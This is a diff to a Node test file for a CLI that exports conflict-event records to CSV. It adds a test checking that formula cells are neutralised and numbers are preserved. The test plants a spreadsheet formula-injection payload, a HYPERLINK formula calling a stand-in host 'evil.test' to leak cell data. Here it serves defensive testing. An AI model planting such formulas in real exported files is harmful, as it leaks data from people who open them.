@@ -7,6 +7,7 @@ import { after, before, describe, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { contractDocs } from '../../store/store.contract.js';
 import { openStore } from '../../store/store.js';
+import { parseCsv } from '../../test-support/csv.js';
 
 const here = dirname(fileURLToPath(import.meta.url));
 /**
@@ -187,6 +188,24 @@ describe('dyad CLI', () => {
       assert.equal(rows.length, 2);
       assert.match(rows[0] ?? '', /^id,doc_id,date,/);
       assert.match(rows[1] ?? '', /,ASSAULT,,195,4,-10,Northland artillery,NLDMIL,Vell,SLDCVL,Vell,SLD,41.5,22.25,0.9,false,shell,/);
+    });
+
+    test('CSV from a real store reads back with an RFC 4180 reader, formula cells neutralised, numbers kept', async () => {
+      const { shelling } = contractDocs();
+      const [first, second] = shelling.layers.events!;
+      const formula = '=HYPERLINK("http://evil.test/?d="&A1,"open")';
+      shelling.layers.events = [{ ...first!, goldstein: -10, actors: [{ ...first!.actors[0]!, text: formula }] }, second!];
+      const store = await openStore(join(dir, 'hostile.db'));
+      await store.putDocs([shelling]);
+      await store.close();
+      const run = dyad(['events', '--db', 'hostile.db', '--format', 'csv', '--cameo', '195']);
+      assert.equal(run.status, 0, run.stderr);
+      const [header, row, ...rest] = parseCsv(run.stdout);
+      assert.equal(rest.length, 0);
+      const cell = (name: string): string | undefined => row?.[header?.indexOf(name) ?? -1];
+      assert.equal(cell('actor'), `'${formula}`);
+      assert.equal(cell('goldstein'), '-10');
+      assert.equal(cell('lat'), '41.5');
     });
 
     test('filters by CAMEO prefix and by words in the source text', () => {
